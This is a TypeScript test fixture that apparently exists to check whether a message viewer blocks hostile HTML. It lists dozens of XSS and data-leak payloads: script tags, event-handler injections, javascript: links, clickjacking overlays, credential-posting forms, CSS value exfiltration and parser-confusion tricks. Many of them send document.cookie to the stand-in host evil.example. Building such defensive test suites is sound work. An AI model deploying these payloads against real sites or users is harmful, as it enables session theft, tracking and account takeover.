/** HTML of a message that tries to act on its reader. */
export interface HostileHtml {
  name: string;
  html: string;
  /** The element that a reader clicks. */
  click?: string;
}

type Samples = Record<string, string>;

const FOREIGN = 'https://evil.example';
/** Text that a script writes to the console if it runs. */
export const SCRIPT_RAN = 'the script of a message ran';

/** Contains no double quotes, so that it fits into attributes. */
const RUN =
  `console.log('${SCRIPT_RAN}');document.title='taken';document.cookie='taken=1';` +
  `fetch('${FOREIGN}/script?'+document.cookie);parent.postMessage('taken','*');top.location='${FOREIGN}/top'`;
const SCRIPT = `<script>${RUN}</script>`;
const ENCODED = Buffer.from(SCRIPT).toString('base64');

const SCRIPTS: Samples = {
  'a script': SCRIPT,
  'a script of another host': `<script src="${FOREIGN}/script.js"></script>`,
  'a module with an import': `<script type="module">import '${FOREIGN}/module.js';${RUN}</script>`,
  'a script in a shadow root': `<div><template shadowrootmode="open">${SCRIPT}</template></div>`,
  'a script that reads cookies': `<script>new Image().src='${FOREIGN}/?'+document.cookie;${RUN}</script>`,
  'speculation rules': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${FOREIGN}/next"]}]}</script>${SCRIPT}`,
};

const HANDLERS: Samples = {
  'an image that fails': `<img src="data:x" onerror="${RUN}">`,
  'a drawing that loads': `<svg onload="${RUN}"></svg>`,
  'a body that loads': `<body onload="${RUN}">text</body>`,
  'details that open': `<details open ontoggle="${RUN}"><summary>more</summary>text</details>`,
  'a field that takes the focus': `<input autofocus onfocus="${RUN}">`,
  'a video that fails': `<video><source src="data:x" onerror="${RUN}"></video>`,
  'a style that loads': `<style onload="${RUN}"></style>`,
  'a paragraph to click on': `<p id="go" onclick="${RUN}">Click here</p>`,
};

const LINKS: Samples = {
  'a link with a script': `<a id="go" href="javascript:${RUN}">Your order</a>`,
  'a link over everything': `<a id="go" href="javascript:${RUN}" style="position:fixed;inset:0;z-index:2147483647">Your order</a>`,
  'a link in a drawing, animated to a script': `<svg width="200" height="60"><a id="go"><animate attributeName="href" values="javascript:${RUN}"/><text x="5" y="20">Your order</text></a></svg>`,
  'a link to the top window': `<a id="go" href="${FOREIGN}/top" target="_top">Your order</a>`,
  'a link to a new window': `<a id="go" href="${FOREIGN}/new" target="_blank">Your order</a>`,
  'a link in the frame': `<a id="go" href="${FOREIGN}/frame">Your order</a>`,
  'a link that pings': `<a id="go" href="#there" ping="${FOREIGN}/ping">Your order</a>`,
  'a download': `<a id="go" href="data:text/html,x" download="invoice.html">Invoice</a>`,
  'a link to the application': '<a id="go" href="/app/settings" target="_top">Your order</a>',
};

const FORMS: Samples = {
  'a form to another host': `<form action="${FOREIGN}/form"><input name="password" value="1"><button id="go">Sign in</button></form>`,
  'a form to the application':
    '<form action="/app/api/logout" method="post" target="_top"><button id="go">Sign in</button></form>',
  'a button with a script as its target': `<form><button id="go" formaction="javascript:${RUN}">Sign in</button></form>`,
};

const REDIRECTS: Samples = {
  'a refresh to another host': `<meta http-equiv="refresh" content="0;url=${FOREIGN}/refresh">`,
  'a refresh to a document with a script': `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${ENCODED}">`,
  'a policy and a cookie of its own': `<meta http-equiv="content-security-policy" content="default-src * 'unsafe-inline'"><meta http-equiv="set-cookie" content="taken=1">${SCRIPT}`,
  'a base at another host': `<base href="${FOREIGN}/"><img src="relative.png"><script src="relative.js"></script>`,
};

const FRAMES: Samples = {
  'a frame of another host': `<iframe src="${FOREIGN}/frame"></iframe>`,
  'a frame with a script as its address': `<iframe src="javascript:${RUN}"></iframe>`,
  'a frame with a document of its own': `<iframe srcdoc="&lt;img src='data:x' onerror=&quot;${RUN}&quot;&gt;"></iframe>`,
  'a frame of the application': `<iframe src="/app/settings"></iframe>${SCRIPT}`,
  'an object of another host': `<object data="${FOREIGN}/object"></object>`,
  'an object with a script': `<object data="data:text/html;base64,${ENCODED}"></object><embed src="${FOREIGN}/embed">`,
  'an embedded document': `<embed src="${FOREIGN}/embed" type="text/html">`,
  'foreign content in a drawing': `<svg><foreignObject width="9" height="9"><iframe src="${FOREIGN}/svg"></iframe></foreignObject><image href="${FOREIGN}/i.png"/><use href="${FOREIGN}/u.svg#a"/></svg>`,
};

const LOADS: Samples = {
  'an image of another host': `<img src="${FOREIGN}/pixel.png">`,
  'images by density': `<img srcset="${FOREIGN}/1.png 1x, ${FOREIGN}/2.png 2x"><picture><source srcset="${FOREIGN}/3.png"><img></picture>`,
  'an image with dangling markup': `<img src='${FOREIGN}/?text=<p>The secret of the next paragraph</p>'>`,
  'images of old attributes': `<table background="${FOREIGN}/t.png"><tr><td>text</td></tr></table><input type="image" src="${FOREIGN}/i.png">`,
  media: `<video poster="${FOREIGN}/p.png" src="${FOREIGN}/v.mp4" autoplay></video><audio src="${FOREIGN}/a.mp3" autoplay></audio>`,
  'an imported style sheet': `<style>@import '${FOREIGN}/style.css';</style>text`,
  'a linked style sheet': `<link rel="stylesheet" href="${FOREIGN}/style.css">text`,
  'images of styles': `<style>p{background:url(${FOREIGN}/b.png);cursor:url(${FOREIGN}/c.cur),auto}p::before{content:url(${FOREIGN}/d.png)}</style><p>text</p>`,
  'a style that reads a value': `<style>input[value^='s']{background:url(${FOREIGN}/s)}</style><input value="secret">`,
  'a font of another host': `<style>@font-face{font-family:a;src:url(${FOREIGN}/a.woff2)}p{font-family:a}</style><p>text</p>`,
  'links to fetch before they are needed': `<link rel="prefetch" href="${FOREIGN}/next"><link rel="preload" as="image" href="${FOREIGN}/i.png"><link rel="modulepreload" href="${FOREIGN}/m.js">`,
  'links to connect before it is needed': `<link rel="preconnect" href="https://connect.evil.example"><link rel="dns-prefetch" href="https://resolve.evil.example">`,
  'such a link in a frame': `<iframe srcdoc="&lt;link rel='preconnect' href='https://framed.evil.example'&gt;"></iframe>`,
};

/** Frames and resources that are easily forgotten, and spellings of those above. */
const FORGOTTEN: Samples = {
  'a set of frames': `<frameset><frame src="https://frame.evil.example/a"></frameset>`,
  'a set of frames in another': `<html><head></head><FRAMESET rows="*"><frameset cols="*,*"><FRAME\nsrc=//frames.evil.example/a><frame/src='//frames2.evil.example'></frameset><noframes>x</noframes></FRAMESET></html>`,
  'an image in a drawing, by the old attribute': `<svg width="9" height="9"><image xlink:href="${FOREIGN}/x.png" width="9" height="9"/></svg>`,
  'an image in a filter': `<svg width="99" height="99"><filter id="f"><feImage href="${FOREIGN}/fe.png"/></filter><rect width="99" height="99" filter="url(#f)"/></svg>`,
  'a drawing used from another host': `<svg><use xlink:href="https://use.evil.example/u.svg#a"/></svg><svg><use href="${FOREIGN}/u.svg#b"/></svg>`,
  'a script in a drawing': `<svg><script href="${FOREIGN}/svg.js"/></svg>`,
  'a style in a drawing': `<svg><style>@import "${FOREIGN}/svg.css"; rect{fill:url(${FOREIGN}/fill.svg#a)}</style><rect width="9" height="9"/></svg>`,
  'a link in a drawing, set to a script': `<svg width="200" height="60"><a id="go"><set attributeName="href" to="javascript:${RUN}"/><text x="5" y="20">Your order</text></a></svg>`,
  'the background of the body': `<body background="${FOREIGN}/b.png"><table><tr><td background="${FOREIGN}/td.png">text</td></tr></table></body>`,
  'subtitles and sources of media': `<video autoplay muted><source src="${FOREIGN}/v.webm"><track default kind="subtitles" src="${FOREIGN}/t.vtt"></video>`,
  'sets of images by width and media': `<picture><source media="(min-width:1px)" srcset="${FOREIGN}/w.png 100w" sizes="100vw"><img src="data:," srcset="${FOREIGN}/x.png 1x"></picture>`,
  'preloaded sets of images': `<link rel="preload" as="image" imagesrcset="${FOREIGN}/set.png 1x"><link rel="icon" href="${FOREIGN}/favicon.ico">`,
  'an address in an escaped style': `<p style="background:\\75 r\\6C(${FOREIGN}/e.png)">text</p><style>\\@import 'x';@\\69mport '${FOREIGN}/escaped.css';</style>`,
  'an address in a custom property': `<style>:root{--a:url(${FOREIGN}/custom.png)}p{background:var(--a)}</style><p>text</p>`,
  'an address in a set of images of a style': `<style>p{background:image-set('${FOREIGN}/set.png' 1x)}div{background:-webkit-image-set(url(${FOREIGN}/w.png) 1x)}</style><p>text</p><div>text</div>`,
  'an address behind a comment and a broken string': `<style>a{content:"\n}p{background:/**/url( "${FOREIGN}/c.png" )}/*</style><p>text</p>`,
  'a list, a mask and a cursor of other hosts': `<ul style="list-style:url(${FOREIGN}/l.png)"><li>text</li></ul><p style="mask-image:url(${FOREIGN}/m.svg);border-image:url(${FOREIGN}/i.png) 9;filter:url(${FOREIGN}/f.svg#a)">text</p>`,
  'a frame in an object that fails': `<object data="data:,"><iframe src="https://object.evil.example/a"></iframe></object>`,
  'a frame behind an unclosed title of a drawing': `<svg><title><iframe src="https://title.evil.example/a"></iframe></title></svg>`,
};

/** Text that parsers read in different ways. */
const PARSERS: Samples = {
  'an attribute that ends a noscript': `<noscript><p title="</noscript><img src=data:x onerror=&quot;${RUN}&quot;>"></noscript>`,
  'a style in mathematics': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:x onerror=${RUN.replaceAll("'", '&#39;')}&gt;"><img src="data:x" onerror="${RUN}">`,
  'a title that ends': `<title></title><svg/onload="${RUN}"//>`,
  'an unclosed comment': `<!--><img src="data:x" onerror="${RUN}">-->`,
};

export const HOSTILE_HTML: readonly HostileHtml[] = Object.entries({
  ...SCRIPTS,
  ...HANDLERS,
  ...LINKS,
  ...FORMS,
  ...REDIRECTS,
  ...FRAMES,
  ...LOADS,
  ...FORGOTTEN,
  ...PARSERS,
}).map(([name, html]) => ({ name, html, ...(html.includes('id="go"') ? { click: '#go' } : {}) }));
